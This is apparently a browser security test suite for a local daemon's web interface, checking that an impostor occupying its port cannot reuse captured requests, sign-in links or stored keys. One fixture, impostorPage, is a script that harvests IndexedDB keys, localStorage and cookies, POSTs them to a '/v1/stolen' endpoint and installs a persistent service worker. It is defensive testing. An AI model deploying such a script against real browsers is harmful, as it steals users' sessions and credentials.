import type { BrowserContext, Page } from 'playwright-core';
import { afterEach, describe, expect } from 'vitest';
import { signIn, test } from './browser-test.ts';
import { type CapturedRequest, replay, startImpostor } from './impostor-server.ts';
import type { WebServer } from './web-server.ts';

/** A program that takes the port of Executor while the daemon is down, in the browser of a signed-in user. */
let server: WebServer;
let context: BrowserContext;
let page: Page;

test.beforeAll(({ server: shared }) => {
  server = shared;
});
test.beforeEach(async ({ browser }) => {
  context = await browser.newContext();
  page = await signIn(context, server);
  await expectLoaded();
  await renameButton().waitFor();
});
afterEach(() => context.close());

const running = (tab: Page) => tab.getByRole('heading', { name: 'Executor is running' });

const renameButton = () => page.getByRole('button', { name: 'Rename the workspace' });

/** The page shows its heading before the server has answered the requests of its parts. */
async function expectLoaded(): Promise<void> {
  await running(page).waitFor();
  await page.getByRole('button', { name: 'New key' }).waitFor();
  await page.getByRole('list', { name: 'Sessions' }).getByText('this browser').waitFor();
}

/** Replaces the server by an impostor while `attack` runs. Returns the requests with a credential that the impostor received. */
async function impersonate(
  answer: Parameters<typeof startImpostor>[1],
  attack: (requests: CapturedRequest[]) => Promise<void>,
): Promise<CapturedRequest[]> {
  await server.stop();
  const impostor = await startImpostor(server.url, answer);
  const { requests } = impostor;
  try {
    await attack(requests);
  } finally {
    await impostor.stop();
    await server.start();
  }
  // Anybody may read the health of the server.
  const captured = requests.filter(
    ({ path, headers }) =>
      path !== '/v1/health' && (headers.cookie !== undefined || headers['x-executor-proof'] !== undefined),
  );
  expect(captured.length).toBeGreaterThan(0);
  return captured;
}

async function renaming(requests: CapturedRequest[]): Promise<void> {
  await renameButton().click();
  await page.getByLabel('Workspace name').fill('Renamed by an impostor');
  await page.keyboard.press('Enter');
  await expect.poll(() => requests.some(({ method }) => method === 'PATCH')).toBe(true);
}

/** The requests as received, and again without their signature. */
async function expectUseless(captured: CapturedRequest[]): Promise<void> {
  const before = await server.state();
  const unsigned = captured.map(({ headers: { 'x-executor-proof': _, ...headers }, ...request }) => ({
    ...request,
    headers,
  }));
  const statuses = await replay(server.url, [...captured, ...unsigned]);
  expect([...new Set(statuses)]).toEqual([401]);
  expect(await server.state()).toEqual(before);
}

const unauthenticated = JSON.stringify({ error: { code: 'unauthenticated', message: 'Signed out.' } });
const answers: [
  string,
  Parameters<typeof startImpostor>[1],
  (requests: CapturedRequest[]) => Promise<void>,
][] = [
  ['with success', () => ({ status: 200, body: '{}' }), renaming],
  [
    'that the session has ended',
    () => ({ status: 401, body: unauthenticated }),
    () => page.getByRole('heading', { name: 'Your session has ended' }).waitFor(),
  ],
  [
    'with nonces of its own',
    () => ({
      status: 401,
      headers: { 'x-executor-nonce': 'N'.repeat(22) },
      body: JSON.stringify({ error: { code: 'nonceRequired', message: 'Again.' } }),
    }),
    renaming,
  ],
];

describe.each(answers)('An impostor that answers an open tab %s', (_, answer, attack) => {
  test('receives nothing that it can use later, and the tab recovers by itself', async () => {
    const { workspaceName } = await server.client.settings.get();
    const captured = await impersonate(answer, attack);
    await expectUseless(captured);
    expect(await server.client.settings.get()).toMatchObject({ workspaceName });
    await expectLoaded();
  });
});

/** The impostor's page asks for everything that it can reach, and uses the key of the browser while it is open. */
const impostorPage = `<!doctype html><script type="module">
  const stored = await new Promise((resolve) => {
    const opening = indexedDB.open('executor', 1);
    opening.onsuccess = () => {
      const all = opening.result.transaction('keys').objectStore('keys').getAll();
      all.onsuccess = () => resolve(all.result);
    };
  });
  const exported = await Promise.all(stored.map((key) => crypto.subtle.exportKey('jwk', key).catch((error) => error.name)));
  await fetch('/v1/stolen', { method: 'POST', body: JSON.stringify({ exported, local: { ...localStorage }, cookie: document.cookie }) });
  await navigator.serviceWorker.register('/worker.js');
  await navigator.serviceWorker.ready;
  document.title = 'done';
</script>`;
const workerOfImpostor = `addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    if (event.request.mode === 'navigate')
      event.respondWith(new Response('<!doctype html><title>Still here</title>', { headers: { 'content-type': 'text/html' } }));
  });`;

function servePage({ path }: CapturedRequest) {
  const [type, body] =
    path === '/worker.js'
      ? ['text/javascript', workerOfImpostor]
      : path.startsWith('/v1/')
        ? ['application/json', '{}']
        : ['text/html', impostorPage];
  return { status: 200, headers: { 'content-type': type, 'cache-control': 'no-store' }, body };
}

test('An impostor that answers a reload cannot read the key, and its service worker is removed', async () => {
  const captured = await impersonate(servePage, async () => {
    await page.reload();
    await expect.poll(() => page.title()).toBe('done');
  });
  const stolen = JSON.parse(captured.find(({ path }) => path === '/v1/stolen')?.body ?? '{}');
  expect(stolen).toEqual({
    exported: ['InvalidAccessError'],
    local: { 'executor.session': expect.stringMatching(/^ses_/) },
    cookie: '',
  });
  await expectUseless(captured);

  // The browser asks for the script of the service worker after a navigation, gets one that removes itself, and loads the page again.
  await page.goto(server.url);
  await running(page).waitFor();
  const left = await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
  expect(left).toBe(0);
});

test('A sign-in link that an impostor receives opens nothing later', async ({ browser }) => {
  const link = await server.signInLink();
  const other = await browser.newContext();
  const tab = await other.newPage();
  await tab.goto(server.url);
  const captured = await impersonate(
    () => ({ status: 201, body: '{}' }),
    async (requests) => {
      await tab.goto(link);
      await expect.poll(() => requests.some(({ path }) => path === '/v1/sessions')).toBe(true);
    },
  );
  const code = new URL(link).hash.slice('#sign-in='.length);
  const posted = captured.filter(({ body }) => body.includes(code));
  expect(posted.length).toBeGreaterThan(0);
  await expectUseless(captured);
  const thief = await other.newPage();
  await thief.goto(link);
  await thief.getByRole('heading', { name: 'This link does not sign in' }).waitFor();
  await other.close();
});
